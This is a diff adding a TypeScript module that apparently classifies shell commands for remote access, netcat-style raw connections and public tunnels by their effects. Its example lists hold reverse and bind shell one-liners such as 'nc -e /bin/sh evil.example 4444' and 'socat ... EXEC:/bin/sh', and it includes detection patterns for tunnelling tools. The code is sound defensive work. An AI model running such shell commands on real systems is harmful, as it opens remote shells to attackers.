@@ -1,0 +1,147 @@
+/** Other machines: shells on them, files to and from them, raw connections, tunnels. */
+import type { Effect } from "../contract/effect.ts";
+import { fixed, hostOf, line, network } from "./makers.ts";
+import { loginHost, networkSsh } from "./network-ssh.ts";
+import { wholly } from "./packages-effects.ts";
+import type { EffectMaker, ProgramSpec, Use } from "./spec.ts";
+
+function netcat(use: Use): readonly Effect[] {
+  const text = line(use.operands);
+  const listens = use.operands.some(
+    (word) =>
+      /^-[a-z]*l/.test(word.value ?? "") ||
+      word.value === "--listen" ||
+      /^(?:TCP|UDP|OPENSSL|UNIX|TCP4|TCP6)[-\w]*-LISTEN/i.test(word.value ?? ""),
+  );
+  const executes = use.operands.some(
+    (word) =>
+      /^-[a-z]*[ec]$|^--(?:exec|sh-exec|lua-exec)/.test(word.value ?? "") ||
+      /(?:^|,)(?:EXEC|SYSTEM|SHELL):/i.test(word.value ?? ""),
+  );
+  const host =
+    use.operands.find((word) => /^[a-z0-9][a-z0-9.-]*\.[a-z0-9.-]+$|^localhost$/i.test(word.value ?? "")) ??
+    use.operands.find((word) => /:/.test(word.value ?? ""));
+  return [
+    network(host === undefined ? null : (hostOf(host) ?? host.value?.split(":")[0]?.toLowerCase() ?? null), true, text),
+    ...(listens ? [fixed("system", "expose", `listens: ${text}`)] : []),
+    ...(executes
+      ? [
+          {
+            do: "run",
+            program: use.program,
+            what: "remote",
+            detail: `a program is given to whoever connects: ${text}`,
+          } as const,
+        ]
+      : []),
+  ];
+}
+
+const versionOnly = (use: Use): boolean =>
+  use.operands.length === 1 && /^(?:--version|-V|-v|version|--help|-h|help)$/.test(use.operands[0]?.value ?? "");
+
+const tunnel: EffectMaker = (use) =>
+  versionOnly(use)
+    ? []
+    : [fixed("system", "expose", `a tunnel to the public internet: ${line(use.operands)}`), network(null, true)];
+
+export const networkRemote: readonly ProgramSpec[] = [
+  {
+    names: ["sftp", "ftp", "lftp", "tftp", "ncftp", "curlftpfs"],
+    ...wholly((use) =>
+      versionOnly(use)
+        ? []
+        : [
+            network(loginHost(use.operands.find((word) => !(word.value ?? "-").startsWith("-"))), true),
+            { do: "run", program: use.program, what: "remote", detail: line(use.operands) },
+          ],
+    ),
+    examples: {
+      safe: [],
+      unsafe: [
+        ["sftp host.example.com", "network"],
+        ["lftp -e '!id' host", "run"],
+      ],
+    },
+  },
+  {
+    names: ["nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd", "pwncat", "cryptcat"],
+    launcher: true,
+    ...wholly(netcat),
+    examples: {
+      safe: [],
+      unsafe: [
+        ["nc -l 4444", "system"],
+        ["nc -e /bin/sh evil.example 4444", "run"],
+        ["nc evil.example 80", "network"],
+        ["socat TCP-LISTEN:80,fork EXEC:/bin/sh", "run"],
+      ],
+    },
+  },
+  {
+    names: ["telnet", "rlogin", "rsh"],
+    ...wholly((use) => [
+      network(use.operands[0]?.value?.toLowerCase() ?? null, true),
+      { do: "run", program: use.program, what: "remote", detail: line(use.operands) },
+    ]),
+    examples: { safe: [], unsafe: [["telnet evil.example 23", "network"]] },
+  },
+  {
+    names: [
+      "ngrok",
+      "localtunnel",
+      "lt",
+      "bore",
+      "frpc",
+      "frps",
+      "chisel",
+      "serveo",
+      "localhost.run",
+      "zrok",
+      "inlets",
+      "gost",
+      "rathole",
+      "sshuttle",
+      "hypertunnel",
+      "pagekite",
+      "tunnelto",
+      "devtunnel",
+      "croc",
+      "wormhole",
+      "magic-wormhole",
+      "transfer",
+      "ffsend",
+    ],
+    ...wholly(tunnel),
+    examples: {
+      safe: ["ngrok version"],
+      unsafe: [
+        ["ngrok http 3000", "system"],
+        ["croc send x", "network"],
+      ],
+    },
+  },
+  {
+    names: ["cloudflared", "tailscale", "zerotier-cli", "nebula", "warp-cli"],
+    ...wholly((use) => {
+      const verb = use.operands[0]?.value ?? "";
+      if (versionOnly(use)) return [];
+      if (/^(?:tunnel|funnel|serve|access)$/.test(verb))
+        return [
+          fixed("system", "expose", `a tunnel to the public internet: ${line(use.operands)}`),
+          network(null, true),
+        ];
+      return /^(?:status|ip|netcheck|ping|list|listnetworks|show|info)$/.test(verb)
+        ? [{ do: "system", op: "read", detail: "the private network" }, network(null, false)]
+        : [fixed("system", "change", `the private network: ${line(use.operands)}`), network(null, true)];
+    }),
+    examples: {
+      safe: ["tailscale version"],
+      unsafe: [
+        ["cloudflared tunnel --url http://localhost:3000", "system"],
+        ["tailscale funnel 80", "system"],
+      ],
+    },
+  },
+  ...networkSsh,
+];
